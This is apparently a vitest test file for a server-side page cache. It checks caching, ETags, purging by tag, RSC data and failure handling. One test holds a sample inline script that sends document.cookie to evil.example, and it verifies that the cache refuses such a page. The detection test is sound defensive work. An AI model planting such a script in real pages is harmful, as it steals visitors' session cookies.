import type { RequestListener } from "node:http";
import zlib from "node:zlib";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createPageCache } from "#lib/page-cache/page-cache.ts";
import { cachePage, tagPage } from "#lib/page-cache/tag-page.ts";
import { startServer } from "#tests/start-server.ts";

type Options = Partial<Parameters<typeof createPageCache>[0]>;
let now = 1_800_000_000_000;
let close = async () => {};
beforeEach(() => {
  vi.spyOn(Date, "now").mockImplementation(() => now);
});
afterEach(async () => {
  vi.restoreAllMocks();
  await close();
});

const start = async (render: RequestListener, options: Options = {}) => {
  const cache = createPageCache({ render, queryKeys: ["q", "page"], ...options });
  const server = await startServer(cache.handle);
  close = server.close;
  return { ...server, cache };
};
const html = (text: string) => `<!doctype html><title>x</title><p>${text} ${"lorem ipsum ".repeat(40)}</p>`;
/** A page that says how often it was rendered, keeps itself for 60 s and can be held back. */
const counter = (tags: string[] = []) => {
  const state = { renders: 0, gate: Promise.resolve(), fail: false };
  const render: RequestListener = async (req, res) => {
    const mine = ++state.renders;
    for (const tag of tags) tagPage(tag);
    cachePage(60);
    await state.gate;
    if (state.fail) throw new Error("the renderer broke");
    res.setHeader("content-type", "text/html; charset=utf-8");
    res.write(html(`render ${mine} of ${req.url}`));
    res.end();
  };
  return { state, render };
};
const hold = () => {
  let release = () => {};
  const gate = new Promise<void>((resolve) => {
    release = resolve;
  });
  return { gate, release };
};

describe("answers from memory", () => {
  it("renders once, then answers the same bytes; HEAD has no body; brotli and gzip are ready", async () => {
    const { state, render } = counter();
    const { get } = await start(render);
    const first = await get("/de", { headers: { "accept-encoding": "gzip, br" } });
    const second = await get("/de", { headers: { "accept-encoding": "gzip, br" } });
    expect([first.headers["x-cache"], second.headers["x-cache"]]).toEqual(["MISS", "HIT"]);
    expect(second.headers["content-encoding"]).toBe("br");
    expect(second.body).toEqual(first.body);
    expect(zlib.brotliDecompressSync(second.body).toString()).toContain("render 1 of /de");
    const zipped = await get("/de", { headers: { "accept-encoding": "gzip" } });
    expect(zlib.gunzipSync(zipped.body).toString()).toContain("render 1 of /de");
    const head = await get("/de", { method: "HEAD" });
    expect(head.body.length).toBe(0);
    expect(Number(head.headers["content-length"])).toBeGreaterThan(300);
    expect(second.headers["cache-control"]).toBe("public, max-age=0, must-revalidate");
    expect(second.headers.vary).toBe("accept-encoding");
    expect(state.renders).toBe(1);
  });

  it("answers 304 to who has it already, also in a list and weakly compared", async () => {
    const { render } = counter();
    const { get } = await start(render);
    const { headers } = await get("/de");
    for (const known of [headers.etag as string, `"other", ${headers.etag}`, (headers.etag as string).slice(2)]) {
      const again = await get("/de", { headers: { "if-none-match": known } });
      expect([again.status, again.body.length]).toEqual([304, 0]);
    }
    expect((await get("/de", { headers: { "if-none-match": '"other"' } })).status).toBe(200);
  });

  it("everyone who waits for a missing page shares one render", async () => {
    const { state, render } = counter();
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const all = [1, 2, 3, 4, 5].map(() => get("/de"));
    await vi.waitFor(() => expect(cache.size().flying).toBe(1));
    release();
    for (const reply of await Promise.all(all)) expect(reply.text).toContain("render 1 of");
    expect(state.renders).toBe(1);
  });

  it("a stale page is sent at once while one render renews it", async () => {
    const { state, render } = counter();
    const { get, cache } = await start(render);
    await get("/de");
    now += 61_000;
    const { gate, release } = hold();
    state.gate = gate;
    const replies = await Promise.all([get("/de"), get("/de"), get("/de")]);
    for (const reply of replies) expect([reply.headers["x-cache"], reply.text.includes("render 1 ")]).toEqual(["STALE", true]);
    release();
    await vi.waitFor(() => expect(cache.size().flying).toBe(0));
    const renewed = await get("/de");
    expect([renewed.headers["x-cache"], renewed.text.includes("render 2 ")]).toEqual(["HIT", true]);
    expect(state.renders).toBe(2);
  });

  it("a page far too old is rendered anew, not shown", async () => {
    const { render } = counter();
    const { get } = await start(render);
    await get("/de");
    now += 121_000;
    expect((await get("/de")).text).toContain("render 2 ");
  });
});

describe("what is stored", () => {
  it("known query parameters are part of the key in any order; campaign parameters are not; others are never stored", async () => {
    const { state, render } = counter();
    const { get } = await start(render);
    await get("/de?page=2&q=a");
    expect((await get("/de?q=a&page=2")).headers["x-cache"]).toBe("HIT");
    expect((await get("/de?q=a&page=2&utm_source=mail&gclid=1")).headers["x-cache"]).toBe("HIT");
    expect((await get("/de?q=b&page=2")).headers["x-cache"]).toBe("MISS");
    expect((await get("/de?q=a&x=1")).headers["x-cache"]).toBe("BYPASS");
    expect((await get("/de?q=a&x=1")).headers["x-cache"]).toBe("BYPASS");
    expect(state.renders).toBe(4);
  });

  it("hosts have answers of their own", async () => {
    const { render } = counter();
    const { get } = await start(render);
    await get("/de");
    expect((await get("/de", { headers: { host: "ada.authors.example" } })).headers["x-cache"]).toBe("MISS");
  });

  it.each([
    ["404", 404, {}],
    ["308", 308, { location: "/de/material/1/right" }],
    ["a cookie", 200, { "set-cookie": "a=b" }],
    ["an answer that varies by cookie", 200, { vary: "cookie" }],
    ["a picture", 200, { "content-type": "image/png" }],
    ["500", 500, {}],
  ])("%s passes with its status and is not stored", async (_, status, headers) => {
    let renders = 0;
    const { get } = await start((_req, res) => {
      renders++;
      cachePage(60);
      res.writeHead(status, { "content-type": "text/html", ...headers });
      res.end(html("x"));
    });
    for (const reply of [await get("/de"), await get("/de")]) {
      expect(reply.status).toBe(status);
      expect(reply.headers).toMatchObject("set-cookie" in headers ? { "set-cookie": ["a=b"] } : "location" in headers ? headers : {});
      expect(reply.headers.etag).toBeUndefined();
    }
    expect(renders).toBe(2);
  });

  it("a page that names no lifetime is not stored; one that Next calls static is", async () => {
    let renders = 0;
    const { get } = await start((req, res) => {
      renders++;
      res.setHeader("content-type", "text/html");
      res.setHeader("cache-control", req.url === "/static" ? "s-maxage=31536000, stale-while-revalidate=31536000" : "private, no-store");
      res.end(html("x"));
    });
    await get("/dynamic");
    expect((await get("/dynamic")).headers["cache-control"]).toBe("private, no-store");
    await get("/static");
    expect((await get("/static")).headers["cache-control"]).toBe("public, max-age=0, must-revalidate");
    expect(renders).toBe(3);
  });

  it("threat 21 a page sees neither cookie nor token nor language, so no answer can be personal", async () => {
    const seen: unknown[] = [];
    const { get } = await start((req, res) => {
      seen.push(req.headers);
      cachePage(60);
      res.setHeader("content-type", "text/html");
      res.end(html("x"));
    });
    await get("/de", {
      headers: { host: "kreda.example", cookie: "session=1", authorization: "Bearer x", "accept-language": "el", "x-cart-token": "y" },
    });
    expect(seen).toEqual([{ host: "kreda.example" }]);
  });

  it("endless paths and tags stay within the bounds", async () => {
    const render: RequestListener = (req, res) => {
      tagPage(`path:${req.url}`);
      cachePage(60);
      res.setHeader("content-type", "text/html");
      res.end(html(req.url ?? ""));
    };
    const { get, cache } = await start(render, { bounds: { entries: 10 } });
    for (let i = 0; i < 40; i++) await get(`/de/${i}`);
    expect(cache.size().pages).toMatchObject({ entries: 10, tags: 10 });
  });
});

describe("page data (RSC)", () => {
  const data = { rsc: "1", "next-router-state-tree": "%5B%22%22%5D", "next-url": "/de" };
  const render: RequestListener = (req, res) => {
    tagPage("material:1");
    cachePage(60);
    const isData = req.headers.rsc === "1";
    res.setHeader("content-type", isData ? "text/x-component" : "text/html");
    res.setHeader("vary", "rsc, next-router-state-tree");
    res.end(html(`${isData ? `data ${req.headers["next-router-state-tree"]} ${req.headers["next-router-prefetch"]} ${req.url}` : "page"}`));
  };
  it("is cached beside the page, by the headers that vary it, and purged with it", async () => {
    const { get, cache } = await start(render);
    expect((await get("/de")).text).toContain("page");
    const first = await get("/de?_rsc=abc", { headers: data });
    expect(first.text).toContain("data %5B%22%22%5D undefined /de?_rsc=abc");
    expect(first.headers["content-security-policy"]).toBeUndefined();
    expect(first.headers.vary).toBe("rsc, next-router-state-tree, accept-encoding");
    expect((await get("/de?_rsc=abc", { headers: data })).headers["x-cache"]).toBe("HIT");
    expect((await get("/de?_rsc=abc", { headers: { ...data, "next-router-prefetch": "1" } })).headers["x-cache"]).toBe("MISS");
    expect((await get("/de?_rsc=abc", { headers: { ...data, "next-router-state-tree": "x" } })).headers["x-cache"]).toBe("MISS");
    expect((await get("/de")).headers["x-cache"]).toBe("HIT");
    expect(cache.purge(["material:1"])).toBe(4);
    expect((await get("/de?_rsc=abc", { headers: data })).headers["x-cache"]).toBe("MISS");
  });
  it("is not stored under endless keys", async () => {
    const { get, cache } = await start(render, { bounds: { entries: 5 } });
    for (let i = 0; i < 20; i++) await get("/de?_rsc=a", { headers: { ...data, "next-router-state-tree": `t${i}` } });
    await get("/de?_rsc=a", { headers: { ...data, "next-router-state-tree": "x".repeat(9_000) } });
    expect(cache.size().data.entries).toBe(5);
  });
});

describe("purging", () => {
  it("forgets exactly the pages with the tag; * forgets all", async () => {
    const render: RequestListener = (req, res) => {
      tagPage(`material:${req.url?.at(-1)}`);
      tagPage("materials");
      cachePage(60);
      res.setHeader("content-type", "text/html");
      res.end(html("x"));
    };
    const { get, cache } = await start(render);
    for (const path of ["/m/1", "/m/2", "/m/3"]) await get(path);
    expect(cache.purge(["material:1", "material:9"])).toBe(1);
    expect((await get("/m/1")).headers["x-cache"]).toBe("MISS");
    expect((await get("/m/2")).headers["x-cache"]).toBe("HIT");
    expect(cache.purge(["materials"])).toBe(3);
    await get("/m/1");
    expect(cache.purge(["*"])).toBe(1);
    expect(cache.size().pages).toMatchObject({ entries: 0, tags: 0 });
  });

  it("a page whose tag was purged while it rendered is not stored, and who comes after the purge gets a new render", async () => {
    const { state, render } = counter(["material:1"]);
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const before = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(1));
    cache.purge(["material:1"]);
    const after = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(2));
    release();
    expect((await before).text).toContain("render 1 ");
    expect((await after).text).toContain("render 2 ");
    expect((await get("/de")).text).toContain("render 2 ");
  });

  it("a purge of another tag does not hinder storing", async () => {
    const { state, render } = counter(["material:1"]);
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const first = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(1));
    cache.purge(["material:2"]);
    release();
    await first;
    expect((await get("/de")).headers["x-cache"]).toBe("HIT");
  });
});

describe("failures", () => {
  it("threat 19 an inline script that is not the framework's fails the page loudly", async () => {
    const errors: unknown[] = [];
    const { get } = await start(
      (_req, res) => {
        cachePage(60);
        res.setHeader("content-type", "text/html");
        res.end(`${html("x")}<script>fetch("https://evil.example/"+document.cookie);${"/* long */".repeat(20)}</script>`);
      },
      { onError: (error) => errors.push(error) },
    );
    const reply = await get("/de");
    expect(reply.status).toBe(500);
    expect(reply.text).not.toContain("evil");
    expect(reply.headers["content-security-policy"]).toContain("default-src 'none'");
    const message = String(errors[0]);
    expect(message).toContain('inline script in a page: fetch("https://evil.example/"+document.cookie);');
    expect(message.length).toBeLessThan(150);
  });

  it("a renderer that throws gives 500, or the last known page when there is one", async () => {
    const { state, render } = counter();
    const { get } = await start(render);
    state.fail = true;
    expect((await get("/de")).status).toBe(500);
    state.fail = false;
    await get("/de");
    state.fail = true;
    now += 3_600_000;
    const old = await get("/de");
    expect([old.status, old.headers["x-cache"]]).toEqual([200, "STALE"]);
  });

  it("503 with Retry-After when the database is away, both for a thrown error and for the framework's own error page", async () => {
    const { get } = await start(
      (req, res) => {
        if (req.url === "/throws") throw new Error("no database");
        res.writeHead(500, { "content-type": "text/html" });
        res.end(html("Internal error"));
      },
      { isDatabaseAway: async () => true },
    );
    for (const path of ["/throws", "/answers"]) {
      const reply = await get(path);
      expect([reply.status, reply.headers["retry-after"], reply.headers["cache-control"]]).toEqual([503, "5", "no-store"]);
    }
  });

  it("a render that never ends is given up", async () => {
    const { get, cache } = await start(() => {}, { renderTimeoutMs: 50 });
    expect((await get("/de")).status).toBe(500);
    expect(cache.size().flying).toBe(0);
  });

  it("the visitor who asked first may leave: the others still get the page", async () => {
    const { state, render } = counter();
    const { gate, release } = hold();
    state.gate = gate;
    const { get, port } = await start(render);
    const leaving = fetch(`http://127.0.0.1:${port}/de`, { signal: AbortSignal.timeout(100) }).catch(() => "left");
    await vi.waitFor(() => expect(state.renders).toBe(1));
    expect(await leaving).toBe("left");
    release();
    expect((await get("/de", { headers: { host: `127.0.0.1:${port}` } })).text).toContain("render 1 ");
  });
});
